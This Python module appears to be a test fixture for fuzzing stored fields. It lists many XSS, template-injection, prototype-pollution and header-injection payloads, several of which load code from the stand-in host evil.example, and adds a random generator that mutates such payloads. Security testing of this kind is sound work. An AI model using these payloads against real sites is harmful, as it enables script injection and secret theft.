"""Texts that have run as scripts somewhere: cheat sheets, polyglots, mutations, broken encodings."""

from __future__ import annotations

import html
import random

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\x0ctype=text/javascript>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=`x`onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<p style='x:expression(alert(1))'>",
    "<x onclick=alert(1)>click</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    " autofocus onfocus=alert(1) ",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](http://[)",
    "[x](//evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/" onerror="alert(1))',
    "![x](https://evil.example/pixel.png)",
    '[x](https://evil.example "\\" onmouseover=\\"alert(1)")',
    "```<script>\nalert(1)\n```",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
    "<a href=javascript:alert(1)>*x*</a>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "{{7*7}}{% debug %}{{ settings.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% load i18n %}{% include 'base.html' %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt"
    "/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"></title></style></textarea></script><svg/onload=alert(1)>",
    '{"__proto__": {"x": "<script>alert(1)</script>"}}',
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
)
"""Put into every stored field, one after the other."""

_TAGS = (
    "img",
    "svg",
    "iframe",
    "details",
    "input",
    "video",
    "body",
    "a",
    "math",
    "object",
    "style",
    "x-y",
    "p",
    "form",
)
_RUNS = (
    "alert(1)",
    "alert`1`",
    "parent.alert(1)",
    "import('//evil.example/x.js')",
    "&#97;lert(1)",
    "top['al'+'ert'](1)",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "oNbEgIn", "onpointerenter")
_LINKS = ("href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "poster", "background", "srcset")
_TARGETS = (
    "javascript:{}",
    "java\nscript:{}",
    "&Tab;javascript:{}",
    "data:text/html,<script>{}</script>",
    "//evil.example/?{}",
)
_BLANKS = (" ", "/", "\t", "\n", "\x0c", "\r", " / ", "\x00", "\u2003")
_QUOTES = ('"', "'", "", "`", "&quot;", "&#39;")
_BEFORE = (
    "",
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</pre></code>",
    "\n\n",
    "> ",
    "    ",
    "| ",
)
_BEHIND = ("", "", "<!--", "//", "\n```", "</", "\\", '"', "&", "`", " |", "\ufffe")
_WRAPPED = (
    "{}",
    "{}",
    "`{}`",
    "```{}\n{}\n```",
    "[{}](<{}>)",
    "[x]({} '{}')",
    "![{}]({})",
    "**{}**",
    "<!-- {} -->",
    "<{}>",
)


def mixed(chance: random.Random) -> str:
    """A text of the kind above, put together by chance."""
    blank, quote, run = chance.choice(_BLANKS), chance.choice(_QUOTES), chance.choice(_RUNS)
    if chance.randrange(2):
        given = f"{chance.choice(_EVENTS)}={quote}{run}{quote} autofocus tabindex=1 src=x"
    else:
        given = f"{chance.choice(_LINKS)}={quote}{chance.choice(_TARGETS).format(run)}{quote}"
    tag = chance.choice(_TAGS)
    element = chance.choice(
        (f"<{tag}{blank}{given}>x", f"<{tag}{blank}{given}", f"<{tag.upper()}{blank}{given}></{tag}>")
    )
    element = chance.choice(
        (element, element, f"<script>{run}</script>", f"{quote} {given} x={quote}", html.escape(element))
    )
    whole = chance.choice(_BEFORE) + element + chance.choice(_BEHIND)
    return chance.choice(_WRAPPED).replace("{}", whole)
